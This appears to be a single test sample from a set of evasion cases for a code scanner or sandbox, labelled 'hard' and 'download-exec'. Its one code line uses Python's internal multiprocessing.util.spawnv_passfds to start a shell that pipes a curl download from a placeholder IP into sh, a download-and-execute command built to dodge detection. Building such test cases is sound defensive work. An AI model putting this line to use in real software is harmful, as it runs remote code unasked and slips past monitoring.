# evasion: multiprocessing.util.spawnv_passfds, an internal helper, starts /bin/sh -c with a download piped to sh
# grade: hard; does: download-exec
import multiprocessing.util as mu

mu.spawnv_passfds("/bin/sh", ["sh", "-c", "curl -s http://203.0.113.81/a | sh"], ())
